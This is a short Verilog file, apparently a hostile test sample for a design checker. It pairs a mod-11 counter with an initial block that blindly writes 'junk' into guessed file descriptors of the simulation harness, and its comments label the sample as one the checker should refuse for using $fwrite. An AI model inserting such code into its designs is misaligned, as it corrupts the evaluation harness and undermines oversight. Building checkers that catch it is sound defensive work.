// does: guesses the descriptors of the harness and writes into them
// named: refused $fwrite
module dial (input clk, input rst, input en, output reg [3:0] q);
    always @(posedge clk) if (rst) q <= 0; else if (en) q <= (q == 10) ? 0 : q + 1;
    integer f;
    initial for (f = 3; f < 16; f = f + 1) $fwrite(32'h80000000 + f, "junk");
endmodule
